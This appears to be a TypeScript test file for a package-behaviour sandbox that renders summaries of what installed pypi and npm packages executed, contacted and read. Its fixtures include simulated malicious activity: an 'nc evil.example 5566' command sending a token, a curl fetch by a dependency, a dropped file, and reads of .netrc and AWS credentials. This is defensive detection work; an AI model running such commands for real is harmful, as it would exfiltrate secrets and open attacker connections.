import assert from 'node:assert/strict';
import { test } from 'node:test';
import { emptyPhase } from '../record/empty-phase.ts';
import type { BehaviourRecord, Phase } from '../record/schema.ts';
import { renderSummary, sanitizeForTerminal, shellQuote } from './render-summary.ts';

function phase(overrides: Partial<Phase>): Phase {
  return emptyPhase({ exit_code: 0, duration_ms: 1000, process_count: 1, ...overrides });
}

function record(install: Phase): BehaviourRecord {
  return {
    schema_version: 1,
    tool: { name: 'pkghunt', version: '0' },
    run_id: 'r',
    started_at: '',
    finished_at: '',
    package: {
      ecosystem: 'pypi',
      name: 'p',
      version: '1',
      requested: 'p',
      source: 'index',
      artifact: null,
      metadata: null,
    },
    sandbox: {
      tracer: 'strace',
      limits: { timeout_s: 1, memory_mb: 1, pids: 1, disk_mb: 1, output_kb: 1 },
      enforcement: {},
      host_uid: 200000,
      python: '/usr/bin/python3',
      canary_token: '0123456789abcdef',
    },
    phases: { install },
    index_requests: [],
  };
}

test('shellQuote leaves plain words alone and quotes the rest', () => {
  assert.equal(shellQuote('grep'), 'grep');
  assert.equal(shellQuote('a b'), "'a b'");
  assert.equal(shellQuote("it's"), `'it'\\''s'`);
  assert.equal(shellQuote(''), "''");
});

test('package-controlled text cannot drive the terminal', () => {
  assert.equal(sanitizeForTerminal('ok\x1b[31mred\x07'), 'ok\\x1b[31mred\\x07');
});

test('the summary names what was executed, contacted and looked up, folding repeats', () => {
  const command = {
    argv: ['nc', 'evil.example', '5566'],
    cwd: '/',
    pid: 9,
    ppid: 1,
    time: 0.5,
    exe: '/usr/bin/nc',
  };
  const text = renderSummary(
    record(
      phase({
        commands: [command, command],
        dns: [{ name: 'evil.example', type: 'A', time: 0.1, answer: '127.53.0.1', server: '127.0.0.1:53' }],
        connections: [
          {
            protocol: 'tcp',
            ip: '127.53.0.1',
            port: 5566,
            hostname: 'evil.example',
            sent_bytes: 5,
            sent_preview: 'token',
            http: null,
            tls_sni: null,
            time: 0.2,
            pids: [9],
          },
        ],
      }),
    ),
  );
  assert.match(text, /\(x2\) \[9\] nc evil\.example 5566/);
  assert.match(text, /evil\.example A via 127\.0\.0\.1:53/);
  assert.match(text, /tcp evil\.example \(127\.53\.0\.1\):5566/);
  assert.match(text, /sent 5 B: token/);
});

test('the summary says who caused what the package itself did not, and stays short for its own', () => {
  const dep = { kind: 'dependency' as const, distribution: 'evil-dep', method: 'process-tree' };
  const build = { kind: 'build_dependency' as const, distribution: 'setuptools-scm', method: 'build-dir' };
  const own = { kind: 'package' as const, distribution: 'p', method: 'process-tree' };
  const text = renderSummary(
    record(
      phase({
        commands: [
          {
            argv: ['curl', 'http://x.example/a'],
            cwd: '/',
            pid: 7,
            ppid: 1,
            time: 0,
            exe: '/usr/bin/curl',
            by: dep,
          },
          { argv: ['git', 'describe'], cwd: '/', pid: 8, ppid: 1, time: 0, exe: '/usr/bin/git', by: build },
          { argv: ['id'], cwd: '/', pid: 9, ppid: 1, time: 0, exe: '/usr/bin/id', by: own },
        ],
        dns: [
          { name: 'x.example', type: 'A', time: 0, answer: '127.53.0.1', server: '127.0.0.1:53', by: [dep] },
        ],
        connections: [
          {
            protocol: 'tcp',
            ip: '127.53.0.1',
            port: 80,
            hostname: 'x.example',
            sent_bytes: 0,
            sent_preview: '',
            http: null,
            tls_sni: null,
            time: 0,
            pids: [7],
            by: [own, dep],
          },
        ],
        files: [
          {
            path: '/tmp/drop',
            ops: ['write'],
            flags: [],
            count: 1,
            failed: 0,
            errors: [],
            pids: [7],
            by: [dep],
          },
          {
            path: '/home/builder/.netrc',
            ops: ['read'],
            flags: [],
            count: 1,
            failed: 0,
            errors: [],
            pids: [9],
            by: [own],
          },
        ],
        canaries: [{ canary: 'aws', how: 'read', evidence: '~/.aws/credentials', by: [dep] }],
      }),
    ),
  );
  assert.match(text, /\[7\] curl http:\/\/x\.example\/a \(by dependency evil-dep\)/);
  assert.match(text, /\[8\] git describe \(by build dependency setuptools-scm\)/);
  assert.match(text, /\[9\] id$/m, "the package's own command has no note");
  assert.match(text, /x\.example A via 127\.0\.0\.1:53 \(by dependency evil-dep\)/);
  assert.match(text, /tcp x\.example \(127\.53\.0\.1\):80 \(also by dependency evil-dep\)/);
  assert.match(text, /write \/tmp\/drop \(by dependency evil-dep\)/);
  assert.match(text, /\/home\/builder\/\.netrc$/m);
  assert.match(text, /aws \[read\] ~\/\.aws\/credentials \(by dependency evil-dep\)/);
});

test('an npm record names npm, not pip, as the installer', () => {
  const npm = { kind: 'pip' as const, distribution: null, method: 'npm' };
  const base = record(
    phase({
      commands: [
        { argv: ['node', 'x.js'], cwd: '/', pid: 7, ppid: 1, time: 0, exe: '/usr/bin/node', by: npm },
      ],
    }),
  );
  const text = renderSummary({ ...base, package: { ...base.package, ecosystem: 'npm' } });
  assert.match(text, /node x\.js \(by npm\)/);
  assert.match(text, /npm's own traffic/);
  assert.doesNotMatch(text, /pip/);
});

test('a finding dismissed by triage says why it added nothing', () => {
  const base = record(phase({}));
  base.verdict = {
    level: 'clean',
    score: 0,
    static_files: 0,
    population_adjusted: false,
    findings: [
      {
        dismissed: 'same behaviour marked a false positive in triage (#3 on 1.0)',
        points: 0,
        evidence: [{ pointer: '/phases/install/connections/0', text: 'tcp good.example:443' }],
        rule: 'net.outbound',
        title: 'contacts the network',
        severity: 'medium',
        phase: 'install',
        attack: 'T1071',
        culprit: null,
      },
    ],
  };
  const text = renderSummary(base, { color: false });
  assert.match(text, /net\.outbound \(install, \+0 T1071\)/);
  assert.match(text, /\n {6}dismissed: same behaviour marked a false positive in triage \(#3 on 1\.0\)\n/);
});
